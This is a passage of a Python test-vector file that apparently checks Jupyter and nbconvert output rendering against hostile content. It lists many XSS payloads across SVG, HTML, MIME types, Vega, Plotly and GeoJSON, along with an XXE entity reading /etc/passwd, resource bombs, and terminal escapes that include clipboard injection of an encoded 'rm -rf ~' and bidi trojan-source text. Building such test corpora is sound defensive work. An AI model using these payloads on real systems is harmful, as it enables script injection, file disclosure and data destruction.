        "set": ("", "<set attributeName='onload' to='{PWN}'/>"),
        "handler": (
            "",
            "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{PWN}</handler>",
        ),
        "cursor": ("", "<cursor xlink:href='{CANARY}'/><g cursor='url({CANARY})'/>"),
        "image-set": ("style='background-image:image-set(&quot;{CANARY}&quot; 1x)'", "<rect/>"),
        "image-set-sheet": ("", "<style>svg{background:image-set('{CANARY}' 1x)}</style><rect/>"),
        "markers": (
            "",
            "<marker id='m'>" + "<circle r='2'/>" * 1000 + "</marker>"
            "<path marker-mid='url(#m)' style='marker:url(#m)' d='M0 0"
            + "L1 1L2 3"
            * 20_000
            + "'/>"
            "<script>{PWN}</script>",
        ),
        "styled-clones": (
            "",
            "<style>path{marker-end:url(#m)}</style><marker id='m'>"
            + "<circle r='2'/>" * 1000
            + "</marker>"
            + "<path d='M0 0L9 9'/>" * 2000
            + "<script>{PWN}</script>",
        ),
        "xhtml": ("", "<img xmlns='http://www.w3.org/1999/xhtml' src='x:' onerror='{PWN}'/>"),
        "clones": (
            "",
            "<g id='a'><rect/></g>"
            + "".join(
                f"<g id='b{i}'>" + f"<use href='#{'a' if not i else f'b{i - 1}'}'/>" * 10 + "</g>"
                for i in range(9)
            )
            + "<script>{PWN}</script>",
        ),
    }.items()
}
DRAWINGS |= {
    "stylesheet": "<?xml-stylesheet href='{CANARY}.css'?>" + DRAWINGS["script"],
    "entities": "<!DOCTYPE svg [<!ENTITY a 'xxxx'><!ENTITY b '&a;&a;'>]>"
    "<svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text><script>{PWN}</script></svg>",
    "external-entity": "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
    "<svg xmlns='http://www.w3.org/2000/svg'><text>&a;</text></svg>",
    "html": "<html><body><script>{PWN}</script></body></html>",
    "no-namespace": "<svg onload='{PWN}'><script>{PWN}</script></svg>",
}

_PAYLOAD = "<img src=x: onerror={PWN}>"
TYPES = {
    "javascript": {"application/javascript": "{PWN}"},
    "javascript-text": {"text/javascript": "{PWN}"},
    "javascript-x": {"application/x-javascript": "{PWN}"},
    "html-upper": {"TEXT/HTML": _PAYLOAD},
    "html-mixed": {"Text/Html": _PAYLOAD},
    "html-parameter": {"text/html; charset=utf-8": _PAYLOAD},
    "html-parameter-short": {"text/html;q=1": _PAYLOAD},
    "html-space": {"text/html ": _PAYLOAD},
    "html-leading-space": {" text/html": _PAYLOAD},
    "html-newline": {"text/html\n": _PAYLOAD},
    "html-null": {"text/html\0": _PAYLOAD},
    "html-unicode": {"text/\u0068tm\u217c": _PAYLOAD},
    "xhtml": {"application/xhtml+xml": _PAYLOAD},
    "xml": {"text/xml": _PAYLOAD, "application/xml": _PAYLOAD},
    "svg-upper": {"IMAGE/SVG+XML": DRAWINGS["load"]},
    "svg-as-png": {"image/png": DRAWINGS["load"]},
    "svg-as-png-bytes": {"image/png": DRAWINGS["load"].encode()},
    "svg-as-gif": {"image/gif": base64.b64encode(DRAWINGS["load"].encode()).decode()},
    "html-as-jpeg": {"image/jpeg": _PAYLOAD},
    "png-attribute-break": {"image/png": 'x"><img src=x: onerror={PWN}>'},
    "png-as-jpeg": {"image/jpeg": PIXEL},
    "png-bomb": {"image/png": PIXEL[:16] + b"\x7f\xff\xff\xff\x7f\xff\xff\xff" + PIXEL[24:]},
    "png-list": {"image/png": [1, 2, 3]},
    "gif-frame": {"image/gif": gif(1, 1, 30_000, 30_000)},
    "bmp": {"image/bmp": base64.b64encode(b"BM").decode()},
    "pdf": {"application/pdf": base64.b64encode(b"%PDF-1.4 /OpenAction").decode()},
    "widget-view": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
    "widget-state": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
    "comm": {"application/vnd.jupyter.comm+json": {"target_name": "x"}},
    "payload": {"application/vnd.ipython.payload": {"source": "set_next_input"}},
    "error": {"application/vnd.jupyter.error": {"ename": "x"}},
    "stdout": {"application/vnd.jupyter.stdout": "x", "application/vnd.jupyter.stderr": "x"},
    "vdom": {"application/vdom.v1+json": {"tagName": "script", "children": ["{PWN}"]}},
    "mermaid": {"text/vnd.mermaid": "graph TD\nA[<img src=x: onerror={PWN}>]"},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", HTML: "<script>{PWN}</script>"},
    "holoviews": {"application/vnd.holoviews_exec.v0+json": "{PWN}"},
    "data-explorer": {"application/vnd.dataresource+json": {"path": "{CANARY}"}},
    "vega-version": {"application/vnd.vega.v5+json+x": {"data": [{"url": "{CANARY}"}]}},
    "drawio": {"application/drawio": "<mxfile/>"},
    "empty-name": {"": _PAYLOAD},
    "long-name": {"text/" + "x" * 5_000: _PAYLOAD},
    "many-names": {f"text/x-{number}": _PAYLOAD for number in range(300)},
    "plain-object": {"text/plain": {"not": "text"}},
    "html-object": {HTML: {"innerHTML": _PAYLOAD}},
    "html-list": {HTML: [_PAYLOAD, _PAYLOAD]},
    "html-bytes": {HTML: _PAYLOAD.encode()},
}

_LITE = {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "bar"}
_ROWS = {"data": {"values": [{"a": 1, "image": "{CANARY}"}]}}
_PLAIN_ROWS = {"data": {"values": [{"a": 1}]}}
VEGA_LITE = {
    "data-url": _LITE | {"data": {"url": "{CANARY}"}},
    "data-lookup": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"lookup": "a", "from": {"data": {"url": "{CANARY}"}, "key": "a"}}]},
    "data-text": _LITE | {"data": {"values": "image\n{CANARY}", "format": {"type": "csv"}}},
    "datasets-text": _LITE | {"datasets": {"a": "image\n{CANARY}"}, "data": {"name": "a"}},
    "mark-image": _LITE
    | _PLAIN_ROWS
    | {"mark": {"type": "image"}, "encoding": {"url": {"value": "{CANARY}"}}},
    "mark-image-short": _LITE | _PLAIN_ROWS | {"mark": "image"},
    "href": _LITE | _PLAIN_ROWS | {"encoding": {"href": {"value": "javascript:{PWN}"}}},
    "tooltip-image": _LITE | _ROWS | {"mark": {"type": "bar", "tooltip": {"content": "data"}}},
    "tooltip-title": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"tooltip": [{"field": "a", "title": "image"}]}},
    "pivot": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"calculate": "'im'+'age'", "as": "k"}, {"pivot": "k", "value": "a"}]},
    "usermeta": _LITE
    | _PLAIN_ROWS
    | {"usermeta": {"embedOptions": {"loader": {"baseURL": "{CANARY}"}, "patch": "{CANARY}"}}},
    "cursor": _LITE | _PLAIN_ROWS | {"mark": {"type": "bar", "cursor": "url({CANARY}),auto"}},
    "cursor-expression": _LITE
    | _PLAIN_ROWS
    | {"mark": {"type": "bar", "cursor": {"expr": "'ur'+'l({CANARY})'"}}},
    "expression-event": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"calculate": "event.view.setTimeout('{PWN}')", "as": "x"}]},
    "expression-constructor": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"filter": "datum.constructor.constructor('{PWN}')()"}]},
    "expression-object": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"calculate": "{toString: event.view.eval}+''", "as": "x"}]},
    "expression-and": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"filter": {"and": ["window.{PWN}", {"not": "event.view.x()"}]}}]},
    "label-expression": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"x": {"axis": {"labelExpr": "event.view.alert(1)"}}}},
    "bind-element": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "bind": {"element": ".jp-Notebook", "input": "text"}}]},
    "select-events": _LITE
    | _PLAIN_ROWS
    | {
        "params": [
            {"name": "p", "select": {"type": "point", "on": "window:keydown[event.view.x()]"}}
        ]
    },
    "parameter-name": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "a;alert(1)//", "value": 1}], "usermeta": {}},
    "sequence": _LITE | {"data": {"sequence": {"start": 0, "stop": 1e12}}, "usermeta": {}},
    "format-type": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"x": {"axis": {"formatType": "__proto__", "labelExpr": "event.view.x()"}}}},
    "background": _LITE | _PLAIN_ROWS | {"background": "url({CANARY})"},
    "bind-handler": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "bind": {"input": "text", "autofocus": "", "onfocus": "{PWN}"}}]},
    "bind-field-handler": _LITE
    | _PLAIN_ROWS
    | {
        "params": [
            {
                "name": "p",
                "select": {"type": "point", "fields": ["a"]},
                "bind": {"a": {"input": "text", "autofocus": "", "onpointerover": "{PWN}"}},
            }
        ]
    },
    "bind-style": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "bind": {"input": "button", "style": "position:fixed;inset:0"}}]},
    "bind-password": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "bind": {"input": "password", "id": "main"}}]},
    "bind-legend": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "select": "point", "bind": {"legend": "click[event.view.x]"}}]},
    "cursor-parameter": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "cursor", "expr": "'ur'+'l({CANARY}),auto'"}]},
    "tooltip-title-escape": _LITE
    | {"data": {"values": [{"a": "{CANARY}"}]}}
    | {"encoding": {"tooltip": [{"field": "a", "title": "im\\age"}]}},
    "tooltip-title-hex": _LITE
    | {"data": {"values": [{"a": "{CANARY}"}]}}
    | {"encoding": {"tooltip": [{"field": "a", "title": "\\x69mage"}]}},
    "title-quote": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"tooltip": [{"field": "a", "title": 'x\\", y: event.view.x, \\"'}]}},
    "format-quote": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"text": {"field": "a", "format": '"), event.view.x, ("'}}},
    "format-wide": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"text": {"field": "a", "format": "0999999999d"}}},
    "parse-quote": _LITE
    | {"data": {"values": [{"a": 1}], "format": {"parse": {"a": "date:'x'),event.view.x,('"}}}},
    "data-name-quote": _LITE | {"data": {"name": "a')+event.view.x+('", "values": [{"a": 1}]}},
    "select-toggle": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "select": {"type": "point", "toggle": "event.view.x"}}]},
    "select-zoom": _LITE
    | _PLAIN_ROWS
    | {"params": [{"name": "p", "select": {"type": "interval", "zoom": "wheel![event.view.x]"}}]},
    "tick-interval": _LITE
    | _PLAIN_ROWS
    | {"encoding": {"x": {"axis": {"tickCount": {"interval": "millisecond", "step": 1}}}}},
    "format-function": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"calculate": "format(datum.a, '0999999999d')", "as": "x"}]},
    "format-of-row": _LITE
    | {"data": {"values": [{"a": 1, "f": "0999999999d"}]}}
    | {"transform": [{"calculate": "format(datum.a, datum.f)", "as": "x"}]},
    "format-of-parts": _LITE
    | _PLAIN_ROWS
    | {"transform": [{"calculate": "format(datum.a, '0999' + '999999d')", "as": "x"}]},
    "proto": json.loads('{"mark":"bar","__proto__":{"url":"{CANARY}"},"data":{"url":"{CANARY}"}}'),
}
VEGA = {
    "data-url": {"data": [{"name": "a", "url": "{CANARY}"}], "marks": []},
    "data-signal": {"data": [{"name": "a", "url": {"signal": "'{CANARY}'"}}]},
    "load-transform": {"data": [{"name": "a", "transform": [{"type": "load", "url": "{CANARY}"}]}]},
    "image": {"marks": [{"type": "image", "encode": {"update": {"url": {"value": "{CANARY}"}}}}]},
    "href": {
        "marks": [{"type": "rect", "encode": {"update": {"href": {"value": "javascript:{PWN}"}}}}]
    },
    "signal-window": {
        "signals": [
            {
                "name": "k",
                "on": [{"events": "window:keydown", "update": "event.view.fetch('{CANARY}')"}],
            }
        ]
    },
    "signal-init": {"signals": [{"name": "k", "init": "event.view.eval('{PWN}')"}]},
    "trigger": {
        "data": [{"name": "a", "on": [{"trigger": "view.x()", "insert": "event.view.y()"}]}]
    },
    "bind": {"signals": [{"name": "k", "bind": {"element": "body", "input": "text"}}]},
    "projection": {"data": [{"name": "a", "url": "{CANARY}", "format": {"type": "topojson"}}]},
    "cursor-signal": {"signals": [{"name": "cursor", "update": "'ur'+'l({CANARY}),auto'"}]},
    "pivot": {
        "data": [
            {
                "name": "a",
                "values": [{"a": "{CANARY}"}],
                "transform": [
                    {"type": "formula", "expr": "'im'+'age'", "as": "k"},
                    {"type": "pivot", "field": "k", "value": "a"},
                ],
            }
        ]
    },
    "as-signal": {
        "data": [
            {
                "name": "a",
                "values": [{"a": "{CANARY}"}],
                "transform": [
                    {"type": "formula", "expr": "datum.a", "as": {"signal": "'im'+'age'"}}
                ],
            }
        ]
    },
    "force": {
        "data": [
            {"name": "a", "values": [1], "transform": [{"type": "force", "iterations": 10**9}]}
        ]
    },
    "cross": {
        "data": [
            {
                "name": "a",
                "values": [{"a": number, "b": number, "c": number} for number in range(999)],
                "transform": [{"type": "aggregate", "groupby": ["a", "b", "c"], "cross": True}],
            }
        ]
    },
    "format-signal": {
        "scales": [{"name": "x", "domain": [0, 1]}],
        "axes": [{"scale": "x", "orient": "top", "format": {"signal": "'0999999999d'"}}],
    },
    "steps-signal": {
        "data": [
            {
                "name": "a",
                "transform": [{"type": "kde", "field": "a", "steps": {"signal": "1e12"}}],
            }
        ]
    },
}

_TRACE = {"type": "scatter", "x": [1], "y": [2]}
PLOTLY = {
    "image": {"data": [_TRACE], "layout": {"images": [{"source": "{CANARY}"}]}},
    "image-relative": {"data": [_TRACE], "layout": {"images": [{"source": "/api/x"}], "x": "url("}},
    "image-svg": {
        "data": [_TRACE],
        "layout": {"images": [{"source": "data:image/svg+xml,<a>"}]},
        "config": {},
    },
    "image-trace": {"data": [{"type": "image", "source": "{CANARY}"}], "layout": {}, "config": {}},
    "map": {"data": [{"type": "scattermapbox"}], "layout": {"mapbox": {"style": "{CANARY}"}}},
    "map-new": {"data": [{"type": "scattermap"}], "layout": {"map": {"style": "{CANARY}"}}},
    "map-layout": {
        "data": [_TRACE],
        "layout": {"mapbox": {"style": "{CANARY}", "accesstoken": "x"}},
    },
    "geo": {"data": [{"type": "scattergeo"}], "layout": {"geo": {}}},
    "choropleth": {"data": [{"type": "choropleth", "locations": ["DE"]}], "layout": {}},
    "config": {"data": [_TRACE], "layout": {}, "config": {"topojsonURL": "{CANARY}"}},
    "server": {"data": [_TRACE], "layout": {}, "config": {"plotlyServerURL": "{CANARY}"}},
    "label-link": {"data": [_TRACE], "layout": {"title": "<a href='javascript:{PWN}'>x</a>"}},
    "label-style": {"data": [_TRACE], "layout": {"title": "<span style='cursor:url({CANARY})'>x"}},
    "label-parts": {
        "data": [
            _TRACE
            | {
                "text": ["<%{customdata}>"],
                "customdata": ["a href='{CANARY}'"],
                "meta": "<a href='{CANARY}'>",
            }
        ],
        "layout": {},
    },
    "button": {
        "data": [_TRACE],
        "layout": {
            "updatemenus": [
                {"buttons": [{"method": "relayout", "args": [{"images[0].source": "{CANARY}"}]}]}
            ]
        },
        "config": {},
    },
    "button-list": {
        "data": [_TRACE],
        "layout": {
            "updatemenus": [
                {"buttons": [{"method": "relayout", "args": ["images[0].source", "{CANARY}"]}]}
            ]
        },
        "config": {},
    },
    "button-all": {
        "data": [_TRACE],
        "layout": {
            "updatemenus": [
                {"buttons": [{"method": "relayout", "args": [{"images[-1].source": "{CANARY}"}]}]}
            ]
        },
        "config": {},
    },
    "button-all-list": {
        "data": [_TRACE],
        "layout": {
            "updatemenus": [
                {"buttons": [{"method": "relayout", "args": ["images[-1].source", "{CANARY}"]}]}
            ]
        },
        "config": {},
    },
    "button-type": {
        "data": [_TRACE],
        "layout": {
            "updatemenus": [{"buttons": [{"method": "restyle", "args": ["type", "scattergeo"]}]}]
        },
    },
    "frame": {
        "data": [_TRACE],
        "layout": {},
        "frames": [
            {"data": [{"type": "scattermapbox"}], "layout": {"images": [{"source": "{CANARY}"}]}}
        ],
    },
    "color": {"data": [_TRACE], "layout": {"paper_bgcolor": "url({CANARY})"}},
}
GEOJSON = {
    "popup": {"type": "Feature", "geometry": None, "properties": {"name": _PAYLOAD}},
    "popup-key": {"type": "Feature", "geometry": None, "properties": {_PAYLOAD: 1}},
    "type": {"type": _PAYLOAD},
}

METADATA = {
    "isolated": ({HTML: "<b>x</b>"}, {"isolated": True}),
    "isolated-type": ({HTML: "<b>x</b>"}, {HTML: {"isolated": True}}),
    "embed": (
        {"application/vnd.vegalite.v5+json": _LITE | _PLAIN_ROWS},
        {"application/vnd.vegalite.v5+json": {"embed_options": {"patch": "{CANARY}"}}},
    ),
    "size": ({"image/png": PIXEL}, {"image/png": {"width": '1" onerror="{PWN}', "height": True}}),
    "size-huge": ({"image/png": PIXEL}, {"image/png": {"width": 10**9, "x": 1}}),
    "unconfined": ({"image/png": PIXEL}, {"unconfined": True}),
    "background": ({"image/png": PIXEL}, {"needs_background": 'light" onload="{PWN}'}),
    "trusted": ({HTML: _PAYLOAD}, {"trusted": True, "tags": ["x"]}),
    "map-tiles": (
        {"application/geo+json": {"type": "Point", "coordinates": [1, 2]}},
        {"application/geo+json": {"url_template": "{CANARY}"}},
    ),
    "expanded": ({"application/json": {}}, {"application/json": {"expanded": True, "root": "<b>"}}),
}

TERMINAL = {
    "link": "\x1b]8;;{CANARY}\x07click\x1b]8;;\x07",
    "link-st": "\x1b]8;;{CANARY}\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "title-report": "\x1b[21t\x1b[c\x1b[6n\x1b[>c",
    "image": "\x1b]1337;File=inline=1:AAAA\x07\x1b_Gf=100;AAAA\x1b\\\x1bPq#0\x1b\\",
    "clear": "\x1b[2J\x1b[H\x1b[3Jfake prompt",
    "cursor": "\x1b[10A\x1b[2Kfake\x1b[10B\x1b[s\x1b[u",
    "alternate": "\x1b[?1049h\x1b[?25l\x1b[?1000h",
    "c1": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "reset": "\x1bc\x1b(0\x1b#8\x1b7\x1b8\x1bD\x1bM",
    "bell": "\x07" * 100,
    "null": "a\0b\x01c\x0ed\x0fe\x7f",
    "bidi": 'if access != "user\u202e \u2066// admin\u2069 \u2066":',
    "marks": "a\u200eb\u200fc\u061cd",
    "long-line": "x" * 200_000,
    "unfinished": "\x1b]0;never ends",
}


def _bundles(family: str, values: dict[str, Any]) -> list[Vector]:
    return [Vector(f"{family}-{name}", family, data) for name, data in values.items()]


VECTORS: list[Vector] = [
    *_family("script", HTML, SCRIPTS),
    *_family("deed", HTML, DEEDS),
    *_family("handler", HTML, HANDLERS),
    *_family("address", HTML, ADDRESSES),
    *_family("beacon", HTML, BEACONS),
    *_family("style", HTML, STYLES),
    *_family("sheet", HTML, SHEETS),
    *_family("mutation", HTML, MUTATIONS),
    *_family("imitation", HTML, IMITATIONS),
    *_family("markdown", "text/markdown", MARKDOWN),
    *_family("latex", "text/latex", LATEX),
    *_family("math", HTML, MATH_IN_HTML),
    *_family("drawing", "image/svg+xml", DRAWINGS),
    *_bundles("type", TYPES),
    *_family("vegalite", "application/vnd.vegalite.v5+json", VEGA_LITE),
    *_family("vega", "application/vnd.vega.v5+json", VEGA),
    *_family("plotly", "application/vnd.plotly.v1+json", PLOTLY),
    *_family("geojson", "application/geo+json", GEOJSON),
    *_family("terminal", "text/plain", TERMINAL),
    *(Vector(f"metadata-{name}", "metadata", *pair) for name, pair in METADATA.items()),
]
BOMBS = frozenset(
    {
        "vegalite-sequence",
        "imitation-headings",
        "math-letters",
        "math-letters-over-lines",
        "math-never-ends",
        "drawing-clones",
        "latex-bomb",
        "latex-deep",
        "latex-raise",
        "vega-href",
        "vega-force",
        "vega-steps-signal",
        "vegalite-format-wide",
        "vegalite-format-function",
        "vegalite-format-of-row",
        "vegalite-format-of-parts",
        "vega-format-signal",
        "vega-cross",
        "type-gif-frame",
        "vegalite-tick-interval",
        "drawing-markers",
        "drawing-styled-clones",
        "latex-far-row",
        "type-png-bomb",
        "markdown-image-attachment",
    }
)
"""As they are they stop the page, or nbconvert; so the controls do without."""
